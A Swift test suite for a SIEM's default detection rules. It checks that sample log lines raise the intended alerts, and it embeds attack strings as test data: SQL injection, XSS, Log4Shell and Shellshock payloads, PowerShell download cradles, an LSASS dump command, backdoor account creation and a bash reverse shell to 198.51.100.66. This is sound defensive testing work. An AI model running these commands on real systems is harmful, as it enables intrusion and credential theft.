import Foundation
import SIEMCore
import Testing

@testable import SIEMRules

/// What each default rule must raise and, as much, what it must not: every case lists the exact
/// set of rules a line raises through the pipeline (`siemd check-rules`), so a rule that also
/// fires where it should not fails here.
@Suite struct DefaultRuleTests {
    struct Case {
        var line: String
        var rules: [String]
        var why: String

        init(_ line: String, _ rules: [String], _ why: String) {
            self.line = line
            self.rules = rules
            self.why = why
        }
    }

    func check(_ cases: [Case]) throws {
        let replay = LineReplay(rules: try DefaultRules.load())
        for test in cases {
            let fired = try replay.ruleIDs(test.line)
            #expect(
                fired.sorted() == test.rules.sorted(),
                "\(test.why): \(test.line) {\(replay.normalized(test.line, all: true))}")
        }
    }

    /// A Windows event as the flat JSON a shipper sends (`fields` of the event).
    static func windows(_ members: [String: Any]) -> String {
        var object = members
        object["Computer"] = object["Computer"] ?? "RDS01.corp.example.com"
        object["Channel"] = object["Channel"] ?? "Security"
        let data = try! JSONSerialization.data(withJSONObject: object, options: [.sortedKeys])
        return String(decoding: data, as: UTF8.self)
    }

    static func access(
        _ target: String, status: Int = 200, user: String = "-", referrer: String = "-",
        agent: String = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
    ) -> String {
        "203.0.113.9 - \(user) [14/Mar/2026:10:00:00 +0000] \"GET \(target) HTTP/1.1\" \(status) 512 "
            + "\"\(referrer)\" \"\(agent)\""
    }

    /// Every rule starts with a literal or an equality the index looks up (RuleIndex), so an
    /// event that has none of them evaluates no rule at all.
    @Test func everyRuleIsGuardedByTheIndex() throws {
        let rules = try DefaultRules.load().rules
        let index = RuleIndex(conditions: rules.map(\.condition))
        let bare = Event(ts: .now, receivedAt: .now, source: "syslog", host: "h", message: "")
        #expect(index.candidates(for: bare).map { rules[$0].id } == [])
        // A regex without a prefilter always runs: name them.
        func unfiltered(_ condition: Condition) -> [String] {
            switch condition {
            case .regex(_, let expression, nil): [expression.pattern]
            case .all(let list), .any(let list): list.flatMap(unfiltered)
            case .not(let inner): unfiltered(inner)
            default: []
            }
        }
        for rule in rules {
            #expect(unfiltered(rule.condition).isEmpty, "\(rule.id): \(unfiltered(rule.condition))")
        }
    }

    @Test func ssh() throws {
        try check([
            Case(
                "Jul  3 14:59:17 host sshd-session[1571]: Failed password for root from 192.0.2.1 port 56502 ssh2",
                ["ssh_failed_password"], "OpenSSH 9.8 logs failures from sshd-session"),
            Case(
                "Failed password for invalid user admin from 10.0.0.5 port 53422 ssh2",
                ["ssh_failed_password", "ssh_invalid_user"],
                "a line without a syslog header"),
            Case(
                "Mar 14 02:14:05 bastion sshd[4242]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root",
                [], "sshd's own `Failed password` line reports the same attempt"),
            Case(
                "Apr 24 01:39:19 host sshd[3719]: input_userauth_request: invalid user root [preauth]", [],
                "the `Invalid user` line of the same attempt is the one reported"),
            Case(
                "Mar 14 02:14:07 bastion sshd[4242]: Connection closed by invalid user oracle 203.0.113.45 port 4444 [preauth]",
                ["ssh_preauth_disconnect"], "the close is not a second invalid-user alert"),
            Case(
                "Mar 14 08:00:00 bastion sshd[900]: Received disconnect from 10.0.3.5 port 50000:11: disconnected by user",
                [], "a normal logout"),
            Case(
                "Mar 14 02:14:09 bastion sshd[4243]: error: maximum authentication attempts exceeded for root from 203.0.113.45 port 4444 ssh2 [preauth]",
                ["ssh_too_many_auth_failures"], "MaxAuthTries reached"),
            Case(
                "Mar 14 02:14:09 bastion sshd[4243]: Disconnecting authenticating user root 203.0.113.45 port 4444: Too many authentication failures [preauth]",
                [], "follows `maximum authentication attempts exceeded` for the same connection"),
            Case(
                "Nov 28 09:16:03 srv sshd[32307]: Failed publickey for git from 192.0.2.1 port 57904 ssh2: RSA SHA256:abc",
                [], "clients offer each key in turn: a valid user's rejected key is not an attack"),
            Case(
                "Jul 05 18:22:44 mercury sshd[4669]: Failed publickey for invalid user graysky from 127.0.0.1 port 37954 ssh2: RSA SHA256:abc",
                ["ssh_invalid_user"], "a key for a user that does not exist"),
            Case(
                "Mar 14 09:00:00 bastion sshd[1]: Accepted publickey for root from 192.0.2.1 port 50000 ssh2: ED25519 SHA256:abc",
                ["ssh_root_login_accepted"], "direct root login"),
            Case(
                "Mar 14 09:00:00 bastion sshd[1]: Accepted publickey for alice from 10.0.1.15 port 50000 ssh2: ED25519 SHA256:abc",
                [], "an ordinary login"),
            Case(
                "Apr 24 01:39:19 host sshd[3719]: User root not allowed because account is locked", [],
                "no address: reported by the connection's next line"),
            Case(
                "Feb 25 14:34:11 belka sshd[31607]: User root from example.com not allowed because not listed in AllowUsers",
                ["ssh_login_refused"], "AllowUsers"),
            Case(
                "Jan  5 01:31:41 www sshd[1643]: ROOT LOGIN REFUSED FROM 1.2.3.4 port 12345 [preauth]",
                ["ssh_login_refused"],
                "PermitRootLogin no"),
            Case(
                "Apr 29 17:16:20 mac sshd[62312]: error: PAM: authentication error for james from example.com via 192.168.1.201",
                ["ssh_auth_failure"], "sshd's own PAM failure line"),
            Case(
                "Sep 29 17:15:02 spaceman sshd[12946]: Failed hostbased for dan from 127.0.0.1 port 45785 ssh2: RSA 8c:e3",
                ["ssh_auth_failure"], "host-based authentication failed"),
            Case(
                "Mar  1 18:59:33 hostname sshd[1189575]: banner exchange: Connection from 192.0.2.12 port 44105: invalid format",
                ["ssh_protocol_probe"], "HTTPS sent to the SSH port"),
            Case(
                "Oct 15 19:51:35 server sshd[7592]: Address 1.2.3.4 maps to x.example.com, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!",
                [], "a DNS mismatch, not an attempt"),
            Case(
                "Sep 29 16:28:05 localhost sshd[16700]: Connection from 192.0.2.5 port 50000 on 192.0.2.1 port 22", [],
                "a connection alone"),
        ])
    }

    @Test func pamSuAuditAndSudo() throws {
        try check([
            Case(
                "Jul 19 18:11:26 srv2 vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=an8767 rhost=192.0.2.1",
                ["pam_auth_failure"], "an FTP password failure"),
            Case(
                "Mar 14 10:00:00 bastion sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1001 euid=0 tty=/dev/pts/0 ruser=bob rhost=  user=bob",
                ["sudo_auth_failure"], "sudo's PAM line is sudo's, not a second PAM alert"),
            Case(
                "Mar 14 10:00:00 bastion su: pam_unix(su:auth): authentication failure; logname=bob uid=1001 euid=0 tty=/dev/pts/0 ruser=bob rhost=  user=root",
                ["su_auth_failure"], "su's PAM line"),
            Case(
                "<34>1 2026-03-14T02:14:15.003Z mymachine.example.com su - ID47 - 'su root' failed for lonvick on /dev/pts/8",
                ["su_auth_failure"], "util-linux su"),
            Case(
                #"type=USER_AUTH msg=audit(1383116263.000:603): pid=12887 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=password acct="dan" exe="/usr/sbin/sshd" hostname=? addr=192.168.3.100 terminal=ssh res=failed'"#,
                ["linux_audit_auth_failure"], "audit's record of a failed password"),
            Case(
                #"type=USER_LOGIN msg=audit(1383116048.000:595): pid=12354 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct="dan" exe="/usr/sbin/sshd" hostname=? addr=192.168.3.100 terminal=ssh res=failed'"#,
                [], "the login record of the same attempt"),
            Case(
                #"type=AVC msg=audit(1700000000.123:456): avc:  denied  { read } for  pid=1234 comm="sshd" name="authorized_keys" dev="dm-0" ino=1 scontext=system_u:system_r:sshd_t:s0-s0:c0.c1023 tcontext=unconfined_u:object_r:user_home_t:s0 tclass=file permissive=0"#,
                ["selinux_sshd_denied"], "SELinux denial for sshd"),
            Case(
                #"type=AVC msg=audit(1700000000.123:457): avc:  denied  { write } for  pid=99 comm="httpd" name="cache" scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:var_t:s0 tclass=dir permissive=0"#,
                [], "a denial for another program"),
            Case(
                "Mar 14 10:00:00 bastion sudo:      bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
                ["sudo_auth_failure"], "a denied attempt is not a root shell"),
            Case(
                "Mar 14 11:40:00 bastion sudo:   intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
                ["sudo_auth_failure"], "not in sudoers; and naming /etc/shadow is not a web path traversal"),
            Case(
                "Mar 14 12:00:00 bastion sudo:     dave : TTY=pts/2 ; PWD=/home/dave ; USER=root ; COMMAND=/bin/bash",
                ["sudo_root_shell"], "an allowed root shell"),
            Case(
                "Mar 14 12:00:00 bastion sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/su -",
                ["sudo_root_shell"], "sudo su -"),
            Case(
                "Mar 14 12:00:00 bastion sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
                [], "sudo cat /etc/shadow: not a web request, not a shell"),
            Case(
                "Mar 14 12:00:00 bastion sudo:    carol : TTY=pts/0 ; PWD=/home/carol ; USER=postgres ; COMMAND=/bin/bash",
                [], "a shell as another user than root"),
            Case(
                "Mar 14 12:00:00 bastion sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c apt update",
                [], "a command run through bash -c, not an interactive shell"),
            Case(
                #"Mar 14 09:00:00 app01 kernel: [12.345] audit: type=1400 audit(1773478800.123:88): apparmor="DENIED" operation="open" profile="/usr/sbin/nginx" name="/etc/shadow" pid=1 comm="nginx" requested_mask="r" denied_mask="r" fsuid=33 ouid=0"#,
                [], "AppArmor naming /etc/shadow is not a web request"),
            Case(
                #"Mar 14 09:00:00 app01 kernel: [12.345] audit: type=1400 audit(1773478800.123:89): apparmor="DENIED" operation="open" profile="php-fpm" name="/var/www/../../etc/passwd" pid=1 comm="php-fpm""#,
                [], "nor is one with `../` in a file name"),
        ])
    }

    @Test func webInjection() throws {
        try check([
            Case(
                Self.access("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"), ["web_sql_injection"],
                "UNION SELECT, encoded spaces"),
            Case(Self.access("/search?q=%27+OR+%271%27%3D%271"), ["web_sql_injection"], "encoded tautology"),
            Case(
                Self.access("/shop/item?id=42/**/UNION/**/SELECT/**/1,2,3"), ["web_sql_injection"], "comments as spaces"
            ),
            Case(Self.access("/shop/item?id=42%2520AND%2520SLEEP(5)"), ["web_sql_injection"], "double-encoded"),
            Case(Self.access("/products", agent: "Mozilla/5.0' AND SLEEP(5)-- -"), ["web_sql_injection"], "in the UA"),
            Case(Self.access("/products", referrer: "' OR 1=1-- "), ["web_sql_injection"], "in the Referer"),
            Case(Self.access("/search?q=o%27reilly+books"), [], "o'reilly"),
            Case(Self.access("/search?q=c%2B%2B+tutorial"), [], "c++"),
            Case(Self.access("/search?q=rock+%26+roll"), [], "rock & roll"),
            Case(Self.access("/search?q=rock+and+roll+or+jazz"), [], "and/or in words"),
            Case(Self.access("/search?q=tom%27s+or+jerry%27s"), [], "possessives around `or`"),
            Case(Self.access("/news/trade-union-select-committee-report"), [], "`union` and `select` in a slug"),
            Case(Self.access("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), ["web_xss"], "encoded <script>"),
            Case(Self.access("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), ["web_xss"], "double-encoded"),
            Case(Self.access("/search?q=%3Csvg%2Fonload%3Dalert%28%27xss%27%29%3E"), ["web_xss"], "<svg/onload>"),
            Case(Self.access("/about", agent: #"\x22><script>alert(1)</script>"#), ["web_xss"], "in the UA"),
            Case(Self.access("/search?q=javascript+tutorial"), [], "the word javascript"),
            Case(Self.access("/static/js/app.8d1e4b.js"), [], "a script asset"),
        ])
    }

    @Test func webTraversalLog4ShellShellshock() throws {
        try check([
            Case(
                Self.access("/static/..%252f..%252f..%252fetc%252fpasswd", status: 404), ["web_path_traversal"],
                "..%252f"),
            Case(Self.access("/download?file=....//....//etc/passwd", status: 403), ["web_path_traversal"], "....//"),
            Case(
                Self.access("/download?file=..%5c..%5cwindows%5cwin.ini", status: 403), ["web_path_traversal"], "..\\"),
            Case(
                Self.access("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", status: 400),
                ["web_path_traversal", "web_bot_path_probe"],
                "CVE-2021-41773 (a failed /cgi-bin/ request is a bot probe too)"),
            Case(Self.access("/docs/v1.2/index.html"), [], "dots in a version"),
            Case(
                "[Wed Dec 18 15:23:15.495667 2024] [core:error] [pid 1672:tid 1839] [client 192.0.2.74:39140] AH10244: invalid URI path (/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh)",
                ["web_path_traversal", "web_malformed_request"], "CVE-2021-42013 in Apache's error log"),
            Case(Self.access("/", agent: "${jndi:ldap://198.51.100.66:1389/a}"), ["web_log4shell"], "plain"),
            Case(
                Self.access("/", agent: "${${lower:j}ndi:${lower:l}dap://198.51.100.66/x}"), ["web_log4shell"], "lower:"
            ),
            Case(
                Self.access("/", agent: "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.66/x}"), ["web_log4shell"],
                "::-"),
            Case(Self.access("/$%7Bjndi:ldap://198.51.100.66:1389/p%7D", status: 404), ["web_log4shell"], "$%7B"),
            Case(Self.access("/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D"), ["web_log4shell"], "encoded"),
            Case(
                "Mar 14 10:00:00 bastion sshd[1]: Invalid user ${jndi:ldap://198.51.100.66/a} from 203.0.113.5 port 4000",
                ["ssh_invalid_user", "web_log4shell"], "the lookup anywhere in any log"),
            Case(Self.access("/?price=${amount}"), [], "a template placeholder"),
            Case(
                Self.access("/cgi-bin/status", status: 404, agent: "() { :; }; /bin/bash -c id"),
                ["web_shellshock", "web_bot_path_probe"], "Shellshock in the UA, against a missing CGI"),
            Case(
                "[Thu Sep 25 09:29:56.141832 2014] [cgi:error] [pid 16864] [client 162.247.73.206:41273] AH01215: /bin/bash: error importing function definition for `HTTP_TEST'",
                ["web_shellshock"], "bash reported the definition"),
        ])
    }

    @Test func webProbesAndAuthentication() throws {
        try check([
            Case(
                Self.access("/wp-login.php", status: 404), ["web_bot_path_probe"],
                "WordPress probe (not also a script probe)"),
            Case(Self.access("/wp-login.php", status: 200), [], "a WordPress site's own login page"),
            Case(Self.access("/.env", status: 404), ["web_sensitive_file_probe"], ".env"),
            Case(Self.access("/.git/config", status: 200), ["web_sensitive_file_probe"], "a leaked repository"),
            Case(Self.access("/.well-known/security.txt", status: 404), [], "a well-known file"),
            Case(Self.access("/shell.php", status: 404), ["web_script_probe"], "a missing script"),
            Case(Self.access("/old-catalog.html", status: 404), [], "a missing page"),
            Case(
                Self.access("/", agent: "sqlmap/1.7.2#stable (https://sqlmap.org)"), ["web_scanner_user_agent"],
                "sqlmap"),
            Case(
                Self.access("/", agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), [],
                "a search engine"),
            Case(
                Self.access("/admin", status: 401, user: "alice"), ["web_auth_failure"], "basic auth refused for a user"
            ),
            Case(Self.access("/admin", status: 401), [], "the browser's first request, without credentials"),
            Case(
                #"2012/04/09 11:53:36 [error] 2865#0: *66647 user "xyz": password mismatch, client: 192.0.43.10, server: www.example.com, request: "GET / HTTP/1.1", host: "www.example.com""#,
                ["web_auth_failure"], "nginx basic auth"),
            Case(
                #"2012/04/09 11:53:36 [error] 2865#0: *66648 no user/password was provided for basic authentication, client: 192.0.43.10, server: www.example.com, request: "GET / HTTP/1.1", host: "www.example.com""#,
                [], "no credentials sent yet"),
            Case(
                "[Sat Jun 01 02:17:42 2013] [error] [client 192.168.33.1] File does not exist: /srv/http/site/[client 192.168.0.1] user root not found",
                [], "a client cannot inject an auth failure through the path"),
            Case(
                "[Sun Sep 14 21:44:43.008606 2014] [authz_core:error] [pid 10691] [client 192.3.9.178:44271] AH01630: client denied by server configuration: /var/www/html/private",
                ["web_access_denied"], "Require ip"),
            Case(
                #"203.0.113.9 - - [14/Mar/2026:10:00:00 +0000] "\x16\x03\x01\x02\x00\x01\x00" 400 150 "-" "-""#,
                ["web_malformed_request"], "TLS ClientHello on the HTTP port"),
            Case(
                "<84>1 2026-03-14T16:20:01.000Z sso.example.com authsvc web-4 LOGIN_FAIL [login@32473 user=\"bob@example.com\" src=\"203.0.113.150\" result=\"wrong_password\" method=\"password\"] Login failed for bob@example.com",
                ["sso_login_failure"], "SSO wrong password"),
            Case(
                "<86>1 2026-03-14T07:32:59.138+01:00 sso.example.com authsvc web-2 LOGIN_OK [login@32473 user=\"ivan@example.com\" src=\"192.0.2.44\" result=\"success\" method=\"password+totp\"] Login succeeded for ivan@example.com",
                [], "SSO success"),
            Case(
                "<20>1 2026-03-14T03:40:13.900000+00:00 mail01.example.com postfix/smtpd 71000 - - warning: unknown[198.51.100.210]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
                ["mail_auth_failure"], "SMTP AUTH guessing"),
        ])
    }

    @Test func dnsAndFirewall() throws {
        try check([
            Case(
                "Jul 24 14:16:55 raid5 named[3935]: client 194.145.196.18#4795: query 'ricreig.com/NS/IN' denied",
                ["dns_query_denied"], "refused query"),
            Case(
                "Aug 17 08:20:22 catinthehat named[2954]: client 223.252.23.219#56275: zone transfer 'openquery.eu/AXFR/IN' denied",
                ["dns_zone_transfer_denied"], "refused AXFR"),
            Case(
                "14-Mar-2026 13:38:02.500 queries: info: client @0x7f1c2c0008e0 198.51.100.23#40001 (example.com): query: example.com IN AXFR -T (192.0.2.53)",
                ["dns_zone_transfer_query"], "AXFR in the query log"),
            Case(
                "14-Mar-2026 13:38:01.500 queries: info: client @0x7f1c2c0008e0 198.51.100.23#40000 (version.bind): query: version.bind CH TXT - (192.0.2.53)",
                ["dns_version_probe"], "version.bind"),
            Case(
                "14-Mar-2026 08:00:01.123 queries: info: client @0x7f1c2c0008e0 10.0.1.23#53542 (www.example.com): query: www.example.com IN A +E(0)K (10.0.0.53)",
                [], "an ordinary query"),
            Case(
                "Mar 14 13:37:11 web01 kernel: [59194.422117] [UFW BLOCK] IN=eth0 OUT= MAC=00:00:5e:00:53:01:00:00:5e:00:53:02:08:00 SRC=198.51.100.23 DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=41 ID=1 PROTO=TCP SPT=40000 DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0 ",
                ["firewall_block"], "UFW block"),
            Case(
                "Mar 14 13:37:11 web01 kernel: [59194.422117] [UFW ALLOW] IN=eth0 OUT= MAC=00:00:5e:00:53:01:00:00:5e:00:53:02:08:00 SRC=198.51.100.23 DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=41 ID=1 PROTO=TCP SPT=40000 DPT=443 WINDOW=1024 RES=0x00 SYN URGP=0 ",
                [], "UFW allow"),
            Case(
                "<134>1 2026-03-14T13:36:40.100000+00:00 fw01.example.net filterlog 65112 - - 5,,,1000000103,igb0,match,block,in,4,0x0,,41,1,0,none,6,tcp,44,198.51.100.23,192.0.2.11,40000,22,0,S,1,,1024,,",
                ["firewall_block"], "pfSense block"),
            Case(
                "Mar  5 21:44:43 srv scanlogd: 192.0.2.123 to 192.0.2.1 ports 80, 81, 83, 88, 99, 443, 1080, 3128, ..., f????uxy, TOS 00, TTL 49 @20:44:43",
                ["firewall_port_scan"], "scanlogd"),
        ])
    }

    @Test func windowsAccountsAndGroups() throws {
        try check([
            Case(
                Self.windows([
                    "EventID": 4625, "TargetUserName": "administrator", "IpAddress": "203.0.113.99", "LogonType": "10",
                ]),
                ["windows_failed_logon"], "failed logon"),
            Case(
                Self.windows([
                    "EventID": 4732, "TargetUserName": "Administrators", "TargetDomainName": "Builtin",
                    "TargetSid": "S-1-5-32-544", "MemberSid": "S-1-5-21-1-2-3-1003", "SubjectUserName": "helpdesk",
                ]), ["windows_user_added_to_admins"], "Administrators"),
            Case(
                Self.windows([
                    "EventID": 4732, "TargetUserName": "Administrateurs", "TargetDomainName": "Builtin",
                    "TargetSid": "S-1-5-32-544", "SubjectUserName": "helpdesk",
                ]), ["windows_user_added_to_admins"], "a localized Administrators, by its SID"),
            Case(
                Self.windows([
                    "EventID": 4732, "TargetUserName": "Backup Operators", "TargetSid": "S-1-5-32-551",
                    "SubjectUserName": "dave",
                ]), ["windows_user_added_to_admins"], "Backup Operators"),
            Case(
                Self.windows([
                    "EventID": 4728, "TargetUserName": "Domain Admins", "TargetSid": "S-1-5-21-100-200-300-512",
                    "SubjectUserName": "helpdesk",
                ]), ["windows_user_added_to_domain_admins"], "Domain Admins"),
            Case(
                Self.windows([
                    "EventID": 4756, "TargetUserName": "Enterprise Admins", "TargetSid": "S-1-5-21-100-200-300-519",
                    "SubjectUserName": "helpdesk",
                ]), ["windows_user_added_to_domain_admins"], "Enterprise Admins (universal group)"),
            Case(
                Self.windows([
                    "EventID": 4732, "TargetUserName": "Remote Desktop Users", "TargetDomainName": "Builtin",
                    "TargetSid": "S-1-5-32-555", "SubjectUserName": "dave",
                ]), ["windows_group_membership_changed"], "a non-admin group is not `added to admins`"),
            Case(
                Self.windows([
                    "EventID": 4728, "TargetUserName": "None", "TargetSid": "S-1-5-21-100-200-300-513",
                    "SubjectUserName": "pgustavo",
                ]), ["windows_group_membership_changed"], "the default group of a new account"),
            Case(
                Self.windows(["EventID": 4720, "TargetUserName": "svc_update", "SubjectUserName": "helpdesk"]),
                ["windows_user_account_created"], "account created"),
            Case(
                Self.windows(["EventID": 4722, "TargetUserName": "svc_update"]), ["windows_user_account_enabled"],
                "enabled"),
            Case(
                Self.windows(["EventID": 4724, "TargetUserName": "backdoor"]), ["windows_password_reset"],
                "password reset"),
            Case(
                Self.windows([
                    "EventID": 4648, "SubjectUserName": "helpdesk", "TargetUserName": "helpdesk",
                    "TargetServerName": "FS01.corp.example.com",
                ]), ["windows_explicit_credentials"], "net use with /user:"),
            Case(
                Self.windows([
                    "EventID": 4648, "SubjectUserName": "FS01$", "TargetUserName": "svc_backup",
                    "TargetServerName": "DC01.corp.example.com",
                ]), [], "a computer account's service logon"),
            Case(
                Self.windows(["EventID": 4624, "TargetUserName": "alice", "LogonType": "2"]), [], "an ordinary logon"),
        ])
    }

    @Test func windowsExecution() throws {
        let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
        try check([
            Case(Self.windows(["EventID": 1102, "SubjectUserName": "helpdesk"]), ["windows_log_cleared"], "1102"),
            Case(
                Self.windows([
                    "EventID": 104, "Channel": "System", "ProviderName": "Microsoft-Windows-Eventlog",
                ]), ["windows_log_cleared"], "System log cleared"),
            Case(
                Self.windows([
                    "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\wevtutil.exe",
                    "CommandLine": "wevtutil.exe cl Security",
                ]),
                ["windows_log_cleared"], "wevtutil cl"),
            Case(
                Self.windows([
                    "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
                    "ScriptBlockText": "Clear-EventLog -LogName Security",
                ]), ["windows_log_cleared"], "Clear-EventLog"),
            Case(
                Self.windows([
                    "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\wevtutil.exe",
                    "CommandLine": "wevtutil qe Security /c:5",
                ]),
                [], "reading a log"),
            Case(
                Self.windows([
                    "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "CommandLine": "powershell.exe -NoP -NonI -W Hidden -EncodedCommand \(encoded)",
                ]), ["powershell_encoded_command"], "-EncodedCommand"),
            Case(
                Self.windows([
                    "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "CommandLine": "powershell -noP -sta -w 1 -enc  \(encoded)",
                ]), ["powershell_encoded_command"], "-enc in Sysmon"),
            Case(
                Self.windows([
                    "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "CommandLine": "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
                ]), [], "-ExecutionPolicy is not -EncodedCommand"),
            Case(
                Self.windows([
                    "EventID": 4103, "Channel": "Microsoft-Windows-PowerShell/Operational",
                    "ContextInfo": "        Host Application = powershell -noP -sta -w 1 -enc \(encoded)\r\n",
                ]), [], "each pipeline's log repeats the command line the process creation reported"),
            Case(
                Self.windows([
                    "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
                    "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a.ps1')",
                ]), ["powershell_suspicious_script_block"], "download cradle"),
            Case(
                Self.windows([
                    "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
                    "ScriptBlockText": "Get-Service | Where-Object { $_.Status -eq 'Stopped' }",
                ]), [], "an admin's script"),
            Case(
                Self.windows([
                    "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Level": "Verbose",
                    "ScriptBlockText":
                        "$d = [System.Convert]::FromBase64String('SW52b2tl')\n$s = [Text.Encoding]::UTF8.GetString($d)\nInvoke-Expression $s",
                ]), ["powershell_suspicious_script_block"], "Base64 decoded and run, over several lines"),
            Case(
                Self.windows([
                    "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Level": "Verbose",
                    "ScriptBlockText":
                        "Invoke-WebRequest -Uri 'http://198.51.100.66/u.exe' -OutFile 'C:\\ProgramData\\u.exe'",
                ]), ["powershell_suspicious_script_block"], "an executable downloaded into ProgramData"),
            Case(
                Self.windows([
                    "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Level": "Warning",
                    "ScriptBlockText": "Add-Type -TypeDefinition $source",
                ]), ["powershell_suspicious_script_block"], "PowerShell itself logged the block as suspicious"),
            Case(
                Self.windows([
                    "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\rundll32.exe",
                    "CommandLine":
                        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll MiniDump 756 C:\\Users\\x\\AppData\\Local\\Temp\\l.dmp full",
                ]), ["lsass_memory_dump"], "comsvcs MiniDump"),
            Case(
                Self.windows([
                    "EventID": 10, "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
                    "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                    "GrantedAccess": "0x1fffff",
                ]), ["lsass_process_access"], "full access to LSASS"),
            Case(
                Self.windows([
                    "EventID": 10, "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "SourceImage": "C:\\Windows\\system32\\svchost.exe",
                    "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                    "GrantedAccess": "0x1000",
                ]), [], "limited query access"),
            Case(
                Self.windows([
                    "EventID": 7045, "Channel": "System", "ServiceName": "Updater",
                    "ImagePath":
                        "%COMSPEC% /C start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc \(encoded)",
                ]),
                ["windows_service_installed", "windows_suspicious_service_installed", "powershell_encoded_command"],
                "PsExec-style service"),
            Case(
                Self.windows([
                    "EventID": 7045, "Channel": "System", "ServiceName": "Example Updater Service",
                    "ImagePath": "\"C:\\Program Files (x86)\\ExampleSoft\\Update\\ExampleUpdate.exe\" /svc",
                ]), ["windows_service_installed"], "an installer's service"),
        ])
    }

    @Test func windowsDiscoveryAndAccounts() throws {
        func process(_ command: String) -> String {
            Self.windows(["EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": command])
        }
        try check([
            Case(process("whoami /all"), ["windows_recon_command"], "whoami"),
            Case(process("net user"), ["windows_recon_command"], "net user"),
            Case(process("C:\\windows\\system32\\net1 localgroup administrators"), ["windows_recon_command"], "net1"),
            Case(process("nltest /dclist:corp.example.com"), ["windows_recon_command"], "nltest"),
            Case(process("systeminfo"), ["windows_recon_command"], "systeminfo"),
            Case(process("ipconfig /all"), ["windows_recon_command"], "ipconfig /all"),
            Case(process("ipconfig /renew"), [], "not discovery"),
            Case(process("net user svc_update P@ssw0rd!2026 /add"), ["windows_account_manipulation_command"], "/add"),
            Case(
                process("net localgroup administrators svc_update /add"), ["windows_account_manipulation_command"],
                "added to a group"),
            Case(
                process(
                    "\"C:\\windows\\System32\\Wbem\\WMIC.exe\" /node:WS6 process call create \"net user /add backdoor p\""
                ),
                ["windows_account_manipulation_command"], "through WMIC"),
            Case(process("net use \\\\FS01\\C$ /user:CORP\\helpdesk"), ["windows_admin_share_mapped"], "C$"),
            Case(process("net use \\\\FS01\\finance"), [], "an ordinary share"),
            Case(
                process("\"C:\\Program Files\\Internet\\network.exe\" user"), [], "a program whose name starts with net"
            ),
        ])
    }

    @Test func endpointAndShells() throws {
        try check([
            Case(
                #"{"source": "edr", "host": "h", "message": "edr_listen_socket port=4444 process=nc"}"#,
                ["edr_new_listening_socket"], "EDR"),
            Case("bash -i >& /dev/tcp/198.51.100.66/4444 0>&1", ["reverse_shell_command"], "bash reverse shell"),
        ])
    }
}
